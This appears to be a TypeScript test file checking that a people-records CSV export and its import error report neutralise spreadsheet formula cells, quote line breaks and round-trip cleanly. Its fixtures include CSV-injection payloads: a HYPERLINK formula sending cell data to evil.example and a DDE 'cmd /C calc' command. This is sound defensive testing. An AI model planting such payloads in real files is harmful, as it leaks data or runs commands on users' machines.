import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { type TestServer, startServer } from '../support/server.js';
import { allPeople, importCsv } from './imports-helpers.js';

/** What a spreadsheet runs as a formula when a cell starts with it (OWASP "CSV injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV export: formula cells neutralised, line breaks quoted, tags kept', () => {
  let server: TestServer;
  before(async () => {
    server = await startServer({ worker: true });
  });
  after(async () => server.close());

  const people = [
    {
      firstName: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      lastName: '@SUM(1+1)*cmd|" /C calc"!A0',
      phones: [{ value: '+1 555 010 7788' }, { value: '-5550102' }],
      source: '+ads',
      background: 'Line one\nline two\rline three\r\n\tindented',
      tags: ['Smith, John', 'a;b', 'pipe|tag', '=tag', '[bracket]'],
    },
    {
      firstName: 'Tab',
      lastName: '\tleading tab',
      background: "'=already quoted",
      tags: ['buyer', 'vip'],
      emails: [{ value: 'tab@example.com' }],
    },
    {
      firstName: 'Dash',
      lastName: "-'x",
      background: "''+twice",
      phones: [{ value: '+44 20 7946 0958' }],
    },
  ];

  it('no exported cell starts a formula, records stay whole, and the file imports back unchanged', async () => {
    const from = (await server.newAccount()).owner.key;
    for (const body of people) {
      const res = await server.post(from, '/v1/people', body);
      assert.equal(res.status, 201, res.text);
    }
    const exported = await server.get(from, '/v1/people/export');
    assert.equal(exported.status, 200, exported.text);

    const records: Record<string, string>[] = parse(exported.text, { bom: true, columns: true });
    assert.equal(records.length, people.length, 'one record per person: no line break split one');
    for (const record of records)
      for (const [column, cell] of Object.entries(record))
        assert.doesNotMatch(cell, FORMULA_START, `${column} starts a formula: ${cell}`);
    const [first, second, third] = records;
    assert.equal(first['First Name'], `'${people[0].firstName}`);
    assert.equal(first['Last Name'], `'${people[0].lastName}`);
    assert.equal(first.Source, "'+ads");
    assert.equal(first.Background, people[0].background);
    assert.match(first.Phone, /^'\+1/);
    assert.equal(second.Background, "''=already quoted", 'a leading quote of its own is kept');
    assert.equal(third.Background, "'''+twice");
    assert.equal(third['Last Name'], "'-'x");
    // Every line break in the file is inside a quoted field or ends a record.
    const raw = exported.text.replace(/^\uFEFF/, '');
    const unquoted = raw.replace(/"(?:[^"]|"")*"/g, '');
    assert.deepEqual(unquoted.match(/\r\n|\r|\n/g), Array(people.length + 1).fill('\r\n'));

    const to = (await server.newAccount()).owner.key;
    const done = await importCsv(server, to, exported.text);
    assert.deepEqual([done.created, done.errorCount], [people.length, 0], JSON.stringify(done));
    const strip = (p: Record<string, unknown>) => {
      // ids are each account's own (the stage's name beside its id is compared)
      const { id, updated, created, createdVia, stageId, ...rest } = p;
      void [id, updated, created, createdVia, stageId];
      return rest;
    };
    const before = (await allPeople(server, from)).map(strip);
    const after = (await allPeople(server, to)).map(strip);
    assert.deepEqual(after, before, 'names, phones, background and tags as they were');
    assert.match(JSON.stringify(after[0]), /"tags":\["Smith, John","a;b","pipe\|tag"/);
    const again = await server.get(to, '/v1/people/export');
    assert.equal(
      again.text.split('\r\n').slice(1).join(),
      exported.text.split('\r\n').slice(1).join(),
    );
  });

  it("the import's error report neutralises formula cells too", async () => {
    const key = (await server.newAccount()).owner.key;
    const done = await importCsv(server, key, 'First Name,=Price\r\nAna,=1+2\r\nBo,-5\r\n');
    assert.equal(done.errorCount, 2, JSON.stringify(done));
    const report = await server.get(key, `/v1/imports/${done.id}/errors.csv`);
    assert.equal(report.status, 200, report.text);
    const rows: string[][] = parse(report.text, { bom: true });
    for (const row of rows)
      for (const cell of row) assert.doesNotMatch(cell, FORMULA_START, `cell starts a formula`);
  });
});
